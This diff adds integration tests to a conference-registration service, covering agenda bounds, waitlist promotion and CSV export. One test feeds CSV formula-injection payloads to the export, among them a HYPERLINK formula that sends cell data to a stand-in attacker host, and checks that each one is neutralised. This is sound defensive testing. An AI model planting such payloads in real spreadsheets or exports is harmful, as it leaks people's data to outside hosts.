@@ -175,6 +175,48 @@ describe('conferences', () => {
     expect(outside.errors?.[0].extensions).toMatchObject({ reason: 'OUTSIDE_CONFERENCE' });
   });
 
+  it('refuses to move the conference away from its agenda', async () => {
+    const id = await openConference(50);
+    const added = await organizer.gql(
+      `mutation($i: AgendaSessionInput!) { addAgendaSession(input: $i) { id } }`,
+      {
+        i: {
+          conferenceId: id,
+          title: 'Abschluss',
+          startsAt: '2027-05-21T14:00',
+          endsAt: '2027-05-21T15:00',
+        },
+      },
+    );
+    expect(added.errors).toBeUndefined();
+    const times = `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { startsAtLocal endsAtLocal } }`;
+    const shorter = await organizer.gql(times, { i: { id, endsAt: '2027-05-21T12:00' } });
+    expect(shorter.errors?.[0].extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      reason: 'OUTSIDE_CONFERENCE',
+      field: 'input.endsAt',
+    });
+    const later = await organizer.gql(times, {
+      i: { id, startsAt: '2027-05-21T14:30', endsAt: '2027-05-22T16:00' },
+    });
+    expect(later.errors?.[0].extensions).toMatchObject({
+      reason: 'OUTSIDE_CONFERENCE',
+      field: 'input.startsAt',
+    });
+    const { data } = await organizer.gql<{
+      conference: { startsAtLocal: string; endsAtLocal: string };
+    }>('query($id: ID!) { conference(id: $id) { startsAtLocal endsAtLocal } }', { id });
+    expect(data!.conference).toEqual({
+      startsAtLocal: '2027-05-20T10:00',
+      endsAtLocal: '2027-05-21T16:00',
+    });
+    const stillAround = await organizer.gql<{ updateConference: { endsAtLocal: string } }>(times, {
+      i: { id, endsAt: '2027-05-21T15:00' },
+    });
+    expect(stillAround.errors).toBeUndefined();
+    expect(stillAround.data!.updateConference.endsAtLocal).toBe('2027-05-21T15:00');
+  });
+
   it('fills places, then the waitlist in order; a cancellation moves the waitlist up and tells the city', async () => {
     const id = await openConference(5);
     const register = async (city: string, count: number) =>
@@ -311,6 +353,306 @@ describe('conferences', () => {
       headers: { cookie: (await api.as('coordinator', 'lemgo')).cookie! },
     });
     expect(forbidden.status).toBe(403);
+  });
+
+  it('neutralises formula cells in the CSV export (OWASP): = + - @ tab and CR lead a cell only behind a quote', async () => {
+    const id = await openConference(20);
+    const dangerous = [
+      {
+        name: '=HYPERLINK("https://attacker.example/?d="&A1,"Klick")',
+        email: 'formel@goch.example',
+      },
+      { name: '+1+1', email: '+plus@goch.example', role: '@SUM(A1:A9)' },
+      { name: '@SUM(A1:A9)', email: 'at@goch.example', needs: '-2+3' },
+      { name: '-2+3', email: '-minus@goch.example', role: '=1+1' },
+    ];
+    const ordinary = [
+      {
+        name: 'Anna-Lena Schmidt',
+        email: 'anna-lena@goch.example',
+        role: 'Ehrenamt -',
+        needs: 'a=b',
+      },
+      { name: "Ciarán O'Brien", email: 'ciaran@goch.example', needs: 'Rollstuhl + Begleitung' },
+    ];
+    const registered = await (
+      await api.as('coordinator', 'goch')
+    ).gql(REGISTER, {
+      i: { conferenceId: id, citySlug: 'goch', participants: [...dangerous, ...ordinary] },
+    });
+    expect(registered.errors).toBeUndefined();
+
+    const response = await fetch(`${api.url}/export/conferences/${id}/registrations.csv`, {
+      headers: { cookie: organizer.cookie! },
+    });
+    expect(response.status).toBe(200);
+    const rows = parseCsv(Buffer.from(await response.arrayBuffer()).toString('utf8'), {
+      bom: true,
+      delimiter: ';',
+      columns: true,
+    }) as Array<Record<string, string>>;
+    expect(rows).toHaveLength(6);
+    const byEmail = new Map(rows.map((row) => [row['E-Mail'].replace(/^'/, ''), row]));
+    for (const person of dangerous) {
+      const row = byEmail.get(person.email)!;
+      expect(row.Name).toBe(`'${person.name}`);
+      if (person.email.match(/^[-+]/)) expect(row['E-Mail']).toBe(`'${person.email}`);
+      if (person.role) expect(row.Rolle).toBe(`'${person.role}`);
+      if (person.needs) expect(row.Bedarfe).toBe(`'${person.needs}`);
+    }
+    // No cell of the file still starts with a formula character.
+    for (const row of rows)
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Only the first character counts: the same characters inside a text change nothing.
+    expect(byEmail.get('anna-lena@goch.example')).toMatchObject({
+      Name: 'Anna-Lena Schmidt',
+      'E-Mail': 'anna-lena@goch.example',
+      Rolle: 'Ehrenamt -',
+      Bedarfe: 'a=b',
+    });
+    expect(byEmail.get('ciaran@goch.example')).toMatchObject({
+      Name: "Ciarán O'Brien",
+      Bedarfe: 'Rollstuhl + Begleitung',
+    });
+  });
+
+  it('raising the capacity moves the waitlist up in order and tells the cities; nobody jumps it afterwards', async () => {
+    const title = `Kapazitätstest ${Math.random().toString(36).slice(2, 8)}`;
+    const id = await openConference(5, { title });
+    const register = async (city: string, count: number) => {
+      const result = await (
+        await api.as('coordinator', city)
+      ).gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
+        i: { conferenceId: id, citySlug: city, participants: people(count, city) },
+      });
+      expect(result.errors).toBeUndefined();
+      return result.data!.registerForConference;
+    };
+    expect((await register('zittau', 3)).status).toBe('CONFIRMED');
+    expect((await register('rudolstadt', 3)).status).toBe('WAITLISTED');
+    expect((await register('nordhausen', 1)).status).toBe('WAITLISTED');
+    expect((await register('eschwege', 4)).status).toBe('WAITLISTED');
+    const state = async () => {
+      const { data } = await organizer.gql<{
+        conference: {
+          capacity: number;
+          confirmedParticipants: number;
+          freePlaces: number;
+          registrations: Array<{
+            status: string;
+            waitlistPosition: number | null;
+            city: { slug: string };
+          }>;
+        };
+      }>(
+        'query($id: ID!) { conference(id: $id) { capacity confirmedParticipants freePlaces registrations { status waitlistPosition city { slug } } } }',
+        { id },
+      );
+      return {
+        ...data!.conference,
+        registrations: Object.fromEntries(
+          data!.conference.registrations.map((r) => [
+            r.city.slug,
+            r.waitlistPosition ? `${r.status} ${r.waitlistPosition}` : r.status,
+          ]),
+        ),
+      };
+    };
+
+    // 8 places, 3 taken: rudolstadt (3) and nordhausen (1) move up, eschwege (4) does not fit.
+    const raised = await organizer.gql<{
+      updateConference: { capacity: number; confirmedParticipants: number; freePlaces: number };
+    }>(
+      `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { capacity confirmedParticipants freePlaces } }`,
+      { i: { id, capacity: 8 } },
+    );
+    expect(raised.errors).toBeUndefined();
+    expect(raised.data!.updateConference).toEqual({
+      capacity: 8,
+      confirmedParticipants: 7,
+      freePlaces: 1,
+    });
+    expect(await state()).toMatchObject({
+      confirmedParticipants: 7,
+      registrations: {
+        zittau: 'CONFIRMED',
+        rudolstadt: 'CONFIRMED',
+        nordhausen: 'CONFIRMED',
+        eschwege: 'WAITLISTED 1',
+      },
+    });
+    const mails = await api.ownerQuery<{ recipient: string }>(
+      'SELECT recipient FROM dev_mail WHERE subject = $1 ORDER BY recipient',
+      [`Wissensnetz: Platz frei: ${title}`],
+    );
+    // Every member of the two cities hears of it (demo addresses are <role>.<city>@…), nobody else.
+    expect([...new Set(mails.map((mail) => mail.recipient.split('@')[0].split('.')[1]))]).toEqual([
+      'nordhausen',
+      'rudolstadt',
+    ]);
+    expect(mails.map((mail) => mail.recipient)).toContain(
+      'coordinator.rudolstadt@demo.wissensnetz.example',
+    );
+    const inApp = await api.ownerQuery<{ slug: string }>(
+      `SELECT DISTINCT c.slug FROM notification n JOIN city c ON c.id = n.city_id
+        WHERE n.kind = 'REGISTRATION_CONFIRMED' AND n.link = $1 ORDER BY c.slug`,
+      [`/konferenzen/${id}`],
+    );
+    expect(inApp.map((row) => row.slug)).toEqual(['nordhausen', 'rudolstadt']);
+
+    // One place is free, but eschwege waits for more: a newcomer queues behind it.
+    expect((await register('halberstadt', 1)).status).toBe('WAITLISTED');
+    expect((await state()).registrations).toMatchObject({
+      eschwege: 'WAITLISTED 1',
+      halberstadt: 'WAITLISTED 2',
+    });
+
+    // Lowering takes no confirmed place away; nobody moves up until enough places are free.
+    const lowered = await organizer.gql(UPDATE, { i: { id, capacity: 4 } });
+    expect(lowered.errors).toBeUndefined();
+    expect(await state()).toMatchObject({
+      capacity: 4,
+      confirmedParticipants: 7,
+      freePlaces: 0,
+      registrations: { zittau: 'CONFIRMED', rudolstadt: 'CONFIRMED', nordhausen: 'CONFIRMED' },
+    });
+    const zittau = await (
+      await api.as('coordinator', 'zittau')
+    ).gql<{ conference: { registrations: Array<{ id: string }> } }>(
+      'query($id: ID!) { conference(id: $id) { registrations { id } } }',
+      { id },
+    );
+    await (
+      await api.as('coordinator', 'zittau')
+    ).gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
+      id: zittau.data!.conference.registrations[0].id,
+    });
+    // 4 confirmed of 4 places: still nothing free.
+    expect(await state()).toMatchObject({
+      confirmedParticipants: 4,
+      freePlaces: 0,
+      registrations: { eschwege: 'WAITLISTED 1', halberstadt: 'WAITLISTED 2' },
+    });
+    // Raising again serves the head of the line first: eschwege (4) before halberstadt (1).
+    await organizer.gql(UPDATE, { i: { id, capacity: 9 } });
+    expect(await state()).toMatchObject({
+      confirmedParticipants: 9,
+      freePlaces: 0,
+      registrations: { eschwege: 'CONFIRMED', halberstadt: 'CONFIRMED' },
+    });
+  });
+
+  it('moves the waitlist up when the head of the line cancels', async () => {
+    const id = await openConference(5);
+    const register = async (city: string, count: number) =>
+      (
+        await (
+          await api.as('coordinator', city)
+        ).gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
+          i: { conferenceId: id, citySlug: city, participants: people(count, city) },
+        })
+      ).data!.registerForConference;
+    expect((await register('wolfsburg', 3)).status).toBe('CONFIRMED');
+    const head = await register('saarlouis', 3);
+    expect(head.status).toBe('WAITLISTED');
+    expect((await register('greifswald', 1)).status).toBe('WAITLISTED');
+    const cancelled = await (
+      await api.as('coordinator', 'saarlouis')
+    ).gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', { id: head.id });
+    expect(cancelled.errors).toBeUndefined();
+    const { data } = await organizer.gql<{
+      conference: {
+        freePlaces: number;
+        registrations: Array<{ status: string; city: { slug: string } }>;
+      };
+    }>(
+      'query($id: ID!) { conference(id: $id) { freePlaces registrations { status city { slug } } } }',
+      { id },
+    );
+    expect(
+      Object.fromEntries(data!.conference.registrations.map((r) => [r.city.slug, r.status])),
+    ).toEqual({ wolfsburg: 'CONFIRMED', saarlouis: 'CANCELLED', greifswald: 'CONFIRMED' });
+    expect(data!.conference.freePlaces).toBe(1);
+  });
+
+  it('moves nobody up for a cancelled conference', async () => {
+    const title = `Abgesagt ${Math.random().toString(36).slice(2, 8)}`;
+    const id = await openConference(2, { title });
+    const neuruppin = await api.as('coordinator', 'neuruppin');
+    const first = await neuruppin.gql<{ registerForConference: { id: string; status: string } }>(
+      REGISTER,
+      { i: { conferenceId: id, citySlug: 'neuruppin', participants: people(2, 'neuruppin') } },
+    );
+    expect(first.data!.registerForConference.status).toBe('CONFIRMED');
+    const second = await (
+      await api.as('coordinator', 'mannheim')
+    ).gql<{ registerForConference: { status: string } }>(REGISTER, {
+      i: { conferenceId: id, citySlug: 'mannheim', participants: people(1, 'mannheim') },
+    });
+    expect(second.data!.registerForConference.status).toBe('WAITLISTED');
+    expect(
+      (await organizer.gql(UPDATE, { i: { id, status: 'CANCELLED' } })).errors,
+    ).toBeUndefined();
+    await neuruppin.gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
+      id: first.data!.registerForConference.id,
+    });
+    const [row] = await api.ownerQuery<{ status: string }>(
+      `SELECT r.status FROM registration r JOIN city c ON c.id = r.city_id WHERE r.conference_id = $1 AND c.slug = 'mannheim'`,
+      [id],
+    );
+    expect(row.status).toBe('WAITLISTED');
+    const mails = await api.ownerQuery('SELECT 1 FROM dev_mail WHERE subject = $1', [
+      `Wissensnetz: Platz frei: ${title}`,
+    ]);
+    expect(mails).toEqual([]);
+  });
+
+  it('keeps seats consistent while registrations, cancellations and a capacity change run at once', async () => {
+    const cities = (
+      await api.ownerQuery<{ slug: string }>('SELECT slug FROM city ORDER BY slug LIMIT 16')
+    ).map((row) => row.slug);
+    const id = await openConference(6);
+    const clients = new Map(
+      await Promise.all(
+        cities.map(async (slug) => [slug, await api.as('coordinator', slug)] as const),
+      ),
+    );
+    const register = (slug: string) =>
+      clients.get(slug)!.gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
+        i: { conferenceId: id, citySlug: slug, participants: people(1, slug) },
+      });
+    // 6 confirmed, 6 waitlisted, one after the other.
+    const registrations = new Map<string, string>();
+    for (const slug of cities.slice(0, 12)) {
+      const result = await register(slug);
+      registrations.set(slug, result.data!.registerForConference.id);
+    }
+    const cancel = (slug: string) =>
+      clients.get(slug)!.gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
+        id: registrations.get(slug),
+      });
+    const results = await Promise.all([
+      ...cities.slice(0, 3).map(cancel), // confirmed ones
+      ...cities.slice(8, 10).map(cancel), // waitlisted ones
+      organizer.gql(UPDATE, { i: { id, capacity: 9 } }),
+      ...cities.slice(12, 16).map(register),
+    ]);
+    expect(results.flatMap((result) => result.errors ?? [])).toEqual([]);
+    const rows = await api.ownerQuery<{ status: string; participant_count: number }>(
+      `SELECT status, participant_count FROM registration WHERE conference_id = $1 AND status <> 'CANCELLED' ORDER BY created_at, id`,
+      [id],
+    );
+    const [conference] = await api.ownerQuery<{ capacity: number; confirmed: number }>(
+      'SELECT capacity, confirmed_participants AS confirmed FROM conference WHERE id = $1',
+      [id],
+    );
+    const confirmed = rows.filter((row) => row.status === 'CONFIRMED');
+    expect(conference.confirmed).toBe(confirmed.length);
+    expect(conference).toEqual({ capacity: 9, confirmed: 9 });
+    // First come, first served: the confirmed ones are exactly the oldest registrations.
+    const firstWaiting = rows.findIndex((row) => row.status === 'WAITLISTED');
+    expect(firstWaiting).toBe(9);
+    expect(rows.slice(firstWaiting).every((row) => row.status === 'WAITLISTED')).toBe(true);
   });
 
   it('serves calendar files that parse, in UTC, keeping the UID across updates', async () => {
